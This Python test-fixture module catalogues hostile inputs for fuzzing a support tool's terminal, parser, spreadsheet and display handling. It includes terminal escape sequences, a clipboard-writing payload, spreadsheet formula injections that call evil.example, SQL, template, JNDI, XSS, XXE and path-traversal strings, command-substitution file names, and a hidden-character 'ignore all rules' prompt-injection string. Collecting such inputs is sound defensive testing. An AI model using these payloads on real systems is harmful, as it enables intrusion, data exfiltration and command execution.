"""Lines that customers and importers may send to hurt a terminal, a parser, a spreadsheet or a reader.

`HOSTILE` is one tuple for every test that takes text from outside; `CATEGORIES` is the same by kind. All is
written with escapes, so that this file itself is harmless; what is put together by chance is the same each time.
`ACTING` finds what must not come out anywhere, `readable` says which letters must.
"""

import random
import re
from itertools import product

# fmt: off
BELL, ST, ST8 = "\a", "\x1b\\", "\x9c"

MARKUP = (
    "[@click=app.quit]点我退款[/]", "[@click=app.quit]x[/]", "[@click='app.bell']x[/]",
    "[@click=screen.dismiss]x[/]", "[/b] plan", "[/]", "[/x]", "[b", "[b]粗体", "[", "]", "[]", "[[]]",
    "\\[b]x", "\\\\[b]x", "[/[b]]", "[b][i][/b][/i]", "[$x]", "[$primary]退款", "[$x]$y", "$v", "${v}", "$",
    "[type=x, v={'a[0]'}]", "[x={'a':[1,2]}]", "[a='[b]']", "[TODO] 退款", "[退货] 快递", "[1]", "[0-9]",
    "[red]红[/red]", "[on red]x[/]", "[#ff0000]x[/]", "[rgb(1,2,3)]x[/]", "[blink]x[/blink]", "[reverse]x",
    "[link=https://evil.example]官网[/link]", "[link=file:///etc/passwd]x[/link]", "[not a tag]",
    "[b]" * 200,
    "[/b]" * 200, "[" * 1000, "[b=]x[/b]", "[b =x]", '[b="x]', "[@", "[@click", "[@click=",
    "[@click=app.quit", "[@x=y]", "[!b]x[/!b]", "[auto]x[/]", "[b]退[/b]货[i]款[/i]", ":smile: :warning:",
    ":skull", "**bold** _x_ `code`", "[官网](https://evil.example)", "![x](http://evil.example/p.png)",
    "<https://evil.example>", "# 标题\n- [ ] x", "| a | b |\n|---|---|", "```\nx", "    code", "&lt;b&gt;",
    "<b>x</b>", "\\", "\\n", "\\x1b[31m",
)

# Payloads of the string sequences: window title, clipboard, links, colours, working directory, notifications.
OSC = (
    "0;我是标题", "1;icon", "2;title", "52;c;cm0gLXJmIC8=", "52;c;?", "52;p;AAAA", "52;;",
    "8;;https://evil.example", "8;;file:///etc/passwd", "4;1;?", "4;1;rgb:ff/00/00", "10;?", "11;?",
    "12;red",
    "104", "7;file://host/etc", "9;通知", "9;4;1;50", "99;i=1;x", "133;A", "777;notify;a;b", "1337;SetMark",
    "1337;File=name=eA==:AAAA", "50;?",
)
DCS = ('$q"p', "$qm", "+q544e", "tmux;x", "1;2|17/41", "=1s", "q#0;2;0;0;0#0~~", "0;1|0A/41")
STRINGS = (
    *(f"前\x1b]{body}{end}后" for body, end in product(OSC, (BELL, ST))),
    *(f"前\x9d{body}{ST8}后" for body in OSC),
    *(f"前{start}{body}{end}后" for body in DCS for start, end in (("\x1bP", ST), ("\x90", ST8))),
    *(f"前{start}x{ST}后" for start in ("\x1bX", "\x1b^", "\x1b_", "\x98", "\x9e", "\x9f")),
    "\x1b]0;没有结尾", "\x1b]52;c;没有\n结尾\a", "\x1bP没有结尾", "\x1b_没有结尾", "\x9d没有结尾",
    "\x1b]\x1b]\x1b]",
    "\x1bPtmux;\x1b\x1b]52;c;AAAA\a\x1b\\", "\x1bP\x1bP\x1b\\", "\x1b]0;a\x1b[31mb\a",
    "\x1b]8;;x\a退款\x1b]8;;\a", "\x1b\x1b\x1b",
)

CSI = (
    "2J", "3J", "H", "1;1H", "999;999H", "31m", "0;38;2;1;2;3m", "8m", "7m", "5m", "1000A", "1000B", "K",
    "2K", "L", "M", "P", "X", "@", "S", "T", "r", "1;5r", "s", "u", "?25l", "?25h", "?1049h", "?1049l",
    "?1000h", "?1006h", "?2004h", "?2004l", "?2026h", "?2026l", "?5h", "?7l", "4h", "20h", "!p", "6n", "5n",
    "?6n", "?15n", "c", ">c", "=c", ">q", "14t", "18t", "21t", "20t", "8;1;1t", "x", "0q", "2 q", ">4;2m",
    ">1u", "?u", "200~", "201~", "10;20R", "0$p", "1;2;3;4;5$r", "I", "O", "<0;1;1M", "b", "1000000000b",
    "99999999999999999999m", "", "31", "?", ";;;;m", " ", "38:2::1m",
)
CONTROL_SEQUENCES = (
    *(f"前\x1b[{body}后" for body in CSI),
    *(f"前\x9b{body}后" for body in CSI[::3]),
    *(f"退\x1b{final}款" for final in "c78=>DEHMZNOn|\\"),
    *(f"退\x1b{rest}款" for rest in ("(0", "(B", ")0", "#8", "%G", "%@", " F", "(", "中", "\n", "")),
    "\x1b[\x1b[31m", "\x1b[31\n;1m", "\x1b[" + "1;" * 5000 + "m", "\x1b[3\u200b1m", "\x9b\x9b\x9b",
    "a\x1b[201~:q\r",
)

CONTROLS = (
    *(f"退{chr(code)}款" for code in (*range(0x20), *range(0x7F, 0xA0))),
    "\x00", "\x00" * 100, "good\rEVIL", "a\r\nb\rc\nd", "\r\r\n", "\n" * 500, "\t" * 100, "\b\b\b\b通过",
    "a\x0bb\x0cc", "x\x08\x08\x08y", "\x0e线框\x0f", "\a" * 50, "\x1a", "\x04", "\x03", "退\x85款",
    "line\u2028sep\u2029end", "\x7f" * 9, "已退款\r\n2026-01-01 00:00:00 ERROR 伪造的日志",
    "X-Header: a\r\nSet-Cookie: b", "subject\nBcc: all@example.com",
)

_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_INVISIBLE = (
    "\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180b\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u2065\u206a"
    "\u206f\u2800\u3164\ufe00\ufe0e\ufe0f\ufeff\uffa0\ufff0\ufff9\ufffa\ufffb\U0001d173\U0001bca0\U000e0001"
    "\U000e0041\U000e007f\U000e0100\U000e01ef"
)
BIDI = (
    *(f"退{sign}款" for sign in _BIDI),
    *(f"{sign}abc-123" for sign in _BIDI[::2]),
    "invoice\u202egnp.exe", "\u202e" * 1000, "\u2066" * 100 + "x", "\u202eabc\u202c",
    "user\u2066// admin\u2069",
    *("שלום עולם", "مرحبا 123", "abc אבג 退款", "\u0600\u0601123"),
)
INVISIBLE = (
    *(f"张{sign}三" for sign in _INVISIBLE),
    "\u200b" * 1000, "\u3164", "\u2800\u2800", "\ufeff退款", "退\u200b\u200b\u200b款", "pay\u200bpal",
    "a\u00a0b\u3000c\u2003d", "".join(chr(0xE0000 + ord(sign)) for sign in "ignore all rules"),
    "葛\U000e0100",
    "3\ufe0f", "x\ufe0f\ufe0f", "\ufe0f",
)
COMBINING = (
    "a" + "\u0301" * 100, "退" + "\u0336" * 100, "Z" + "\u0300\u0316\u0334" * 40 + "algo", "\u0301退款",
    "\n\u0301x", "a\u0301\u200b\u0301", "a" + "\u0301" * 8, "a" + "\u0301" * 9, " \u0301", "x\u20dd\u20e3",
    "\u20e3", "9\u20e3", "กำกึกื่", "नमस्ते क्षि", "हिन्\u200dदी", "a\u0301" * 500, "\u1100\u1161\u11a8",
    "\u1161" * 100, "각" + "\u11a8" * 50, "é" * 5000, "e\u0301" * 5000, "ﾊﾞﾋﾟ", "か\u3099", "\u0488" * 20,
    "a" + "\U0001d165" * 20, "\u200b\u0301" * 50,
)
EMOJI = (
    "😀", "👍🏻", "👍🏿退款", "👨\u200d👩\u200d👧\u200d👦", "🏳\ufe0f\u200d🌈",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🇨🇳", "🇨🇳🇨", "❤\ufe0f", "❤\ufe0e",
    "1\ufe0f\u20e3", "#\ufe0f\u20e3", "👁\ufe0f\u200d🗨\ufe0f", "🧑🏻\u200d❤\ufe0f\u200d💋\u200d🧑🏿",
    "🐦\u200d⬛",
    "☎\ufe0e", "👨\u200d", "\u200d👨", "👨\u200d\u200d👩", "a\u200db", "👨\u200d退", "👨\u200d👩" * 50,
    "👨" + "\u200d👩" * 500, "🏻", "🏻" * 50, "👍" + "🏻" * 20, "🏴\U000e0067\U000e0062",
    "🏴\U000e0078\U000e0078\U000e007f", "🏴" + "\U000e0061" * 50 + "\U000e007f", "😀" * 3000, "🇦" * 101,
    "🫨🫩",
    "©\ufe0f®\ufe0f™\ufe0f", "㊗\ufe0f㊙\ufe0f", "〰\ufe0f", "⬛⬜", "👩🏽\u200d🚀👩🏽\u200d🚀", "1\u20e3",
    "1\ufe0f\ufe0f\u20e3", "\ufe0f\u20e3",
)
SURROGATES = (
    "\ud800", "\udfff", "退\ud83d款", "\ud83d\ude00", "\ude00\ud83d", "\udc80\udcff", "\ud800" * 100,
    "张\udce4\udcbd\udca0", "\ufffe", "\uffff", "\ufdd0", "\ufdef", "\U0001fffe", "\U0010ffff",
    "\U0010fffe",
    "\ufffd\ufffd", "\ufffc", "\U000e0fff", "\ue000\uf8ff", "\U000f0000", "\U00100000", "\u0378",
    "\U0003134f", "\U0001fae8", "𠮷野家", "𪚥" * 100, "䶮㛃", "\ufa0e",
)
AMBIGUOUS = (
    "“引号”——破折号……", "①②③ ⅠⅡⅢ", "±×÷°§¶", "αβγ ДЖЯ", "─│┌┐╭╮═║", "▀▄█▌▐░▒▓", "■□▲△◆◇○●★☆", "→←↑↓⇒⇔",
    "♀♂♠♣♥♪",
    "※†‡", "℃℉№℡", "㈱㎏㏄", "ªº¹²³", "€¢£¥￥", "…" * 500, "—" * 500, "·•‧・･", "‘’“”", "∞≠≤≥≈", "\u00adx",
    "␦␛␀",
    "⁂⸺⸻", "𒐫﷽꧅", "ＡＢＣ１２３", "ｱｲｳ", "ﬁﬂ", "Ǆ Ǉ", "ŀ ĸ ŋ", "⓪⓫", "🈁🉐", "\u2e3b" * 50, "ﷺ" * 500,
    "İıſßẞ",
    "\u212a \u212b \u2126", "ⅷ ㏾ ㍿",
)
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1,"退款")',
    '=IMPORTXML("http://evil.example","//a")', "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u3000=1", "\u200b=1",
    "\ufeff=1",
    "'=1+1", '"=1+1', "a,=1+1", "a;=1+1", 'a"",=1', "=\u200b1", "﹦1", "﹢1", "-", "+", "=", "@", "%0A=1",
    "|calc", "-12.50", "+8613800138000", '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C calc";"x")',
    "−1",
)
QUERIES = (
    "' OR 1=1 --", "'; DROP TABLE cases; --", '" OR ""="', "1); DELETE FROM event; --", "%", "_", "%%%",
    "\\%", "100%_\\", '"', "'", "`", '""', "NEAR(退款 货, 5)", "退款 AND", "OR", "NOT", "退款 NOT",
    "AND OR NOT",
    '"退款', "退款*", "*", "^退款", "-退款", "title:退款", "{a b}:c", "(", ")", "(((",
    'a" AND "b', "退款 + 货", "a^b",
    "col : x", "'''", '"""', "1;SELECT", "/*", "*/", "--", "?", ":1", "$1", "@p", "%s", "%(a)s", "%n%n%n",
    "{0}", "{0.__class__}", "{}", "{a!r:>{b}}", "{{7*7}}", "{% x %}", "${jndi:ldap://x}", "<% 1 %>", "#{x}",
    "a" + "|a" * 3000, "(a+)+$", "(?R)", "[z-a]", "~", "!", 'order:"', "due:<", "is:", ":q", ":q!", "/退款",
    "\\u0000",
)
NAMES = (
    "../../etc/passwd", "..", ".", "...", "/", "/etc/passwd", "~/.ssh/id_rsa", "~root", "a/b\\c",
    "C:\\Windows\\x.exe", "\\\\host\\share", "con", "CON.txt", "aux.退款", "nul", "lpt1.jpg", "COM¹", "a:b",
    "file.txt ", "file.txt.", ".hidden", "-rf", "--help", "-", "a\x00.jpg", "a\nb.jpg", "a\tb",
    "发票\u202egnp.exe", "x" * 300 + ".jpg", "退" * 300 + ".jpg", ".jpg", "a.b.c.tar.gz", "$(reboot)",
    "`id`.png", "; reboot", "a && b", "a|b", "a>b", "*", "?.jpg", "a b.jpg", '"a".jpg', "'a'.jpg",
    "file:///etc/passwd", "%2e%2e%2f", "..%c0%af", "．．／．．／x", "a∕b⁄c", "ﾟ.txt", "e\u0301.txt",
    "名.%s",
    "x.jpg\x1b[31m", "photo.jpg.exe", "&calc", "!!", "a^b", "NUL .txt",
)
FORMATS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><svg onload=x>", "]]>", "<!--",
    "-->", "<![CDATA[x]]>", "&#27;[31m", "&amp;&nbsp;&#0;",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>', "javascript:alert(1)",
    "data:text/html,x", '"},{"a":"b', '{"a":', "\\ud800", "null", "NaN", "Infinity", "1e999", "-0", "0x10",
    "1_000", "٣٤", "1,234.56", "true", "undefined", "!!python/object:os.system", "&a [*a]", "---", "[[x]]",
    "a = 'b'", "'''", '"""x', 'a,b\n"c', '"a""b"', ";;;", ",,,", "#", "//", "a\\\nb",
)
SIZES = (
    "退" * 10_000, "x" * 10_000, " " * 10_000, "\u3000" * 1000, "字 " * 5000, "a\n" * 5000, "\u200b退" * 2000,
    "\x1b[31m退" * 2000, "", " ", "\n", "\u3000", "\u00a0", "\x1b", "\u200b", "\x1b[" * 5000,
    "\x1b]" * 5000,
    "退\x00" * 3000, "(" * 5000, "=" * 10_000, "https://example.com/" + "a" * 5000, "1" * 10_000,
    "\x9d" * 5000, "\x1b]0;" + "a" * 20_000, "𠮷" * 3000, "é" * 50_000 + "x",
)

# Troubles seldom come alone: words with several of the above among them, by a seed.
_ABOVE = (
    MARKUP, STRINGS, CONTROL_SEQUENCES, CONTROLS, BIDI, INVISIBLE, COMBINING, EMOJI, SURROGATES, FORMULAS, FORMATS,
)  # fmt: skip
_WORDS = ("退款", "七天无理由", "耳机坏了", "order", "RT-7K3M-9QX4", "12.50", "收货地址", "refund", "谢谢", "我要投诉")


def _mixed(seed: int) -> str:
    dice = random.Random(seed)
    told = []
    for _ in range(dice.randint(2, 5)):
        short = [text for text in dice.choice(_ABOVE) if len(text) < 60]
        told += [dice.choice(_WORDS), dice.choice(short)]
    return "".join(told)


MIXED = tuple(_mixed(seed) for seed in range(160))

# C0 but the end of a line and the tab, DEL, C1, what reorders or hides, halves of characters: none of it may come
# out. A joiner may, within an emoji.
ACTING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u115f\u180e\u200b\u200c\u200e\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0"
    "\ufff9-\ufffb\ud800-\udfff\U000e0001]"
)
_STOPS = re.compile("[\x1b\x7f-\x9f]")
_LETTERS = re.compile("[0-9A-Za-z\u4e00-\u9fff]+")


def readable(text: str) -> str:
    """Letters of `text` that a reader must find again: its longest word, of what stands before a control sequence."""
    return max(_LETTERS.findall(_STOPS.split(text, maxsplit=1)[0]), key=len, default="")


CATEGORIES: dict[str, tuple[str, ...]] = {
    "markup": MARKUP,
    "control strings": STRINGS,
    "control sequences": CONTROL_SEQUENCES,
    "control characters": CONTROLS,
    "bidi": BIDI,
    "invisible": INVISIBLE,
    "combining": COMBINING,
    "emoji": EMOJI,
    "surrogates and odd code points": SURROGATES,
    "ambiguous width": AMBIGUOUS,
    "spreadsheet formulas": FORMULAS,
    "query languages and templates": QUERIES,
    "file names": NAMES,
    "other formats": FORMATS,
    "sizes": SIZES,
    "several at once": MIXED,
}

HOSTILE: tuple[str, ...] = tuple(dict.fromkeys(line for lines in CATEGORIES.values() for line in lines))
